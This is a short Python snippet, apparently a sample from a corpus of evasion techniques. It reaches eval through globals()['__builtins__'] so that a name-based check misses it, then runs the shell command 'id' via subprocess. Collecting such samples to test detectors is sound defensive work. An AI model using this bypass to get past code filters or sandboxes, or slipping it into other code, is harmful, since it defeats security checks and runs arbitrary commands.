# corpus: eval reached through globals()["__builtins__"] to evade a name check
g = globals()["__builtins__"]
evaluate = g.eval if hasattr(g, "eval") else g["eval"]
print(evaluate("__import__('subprocess').getoutput('id')"))
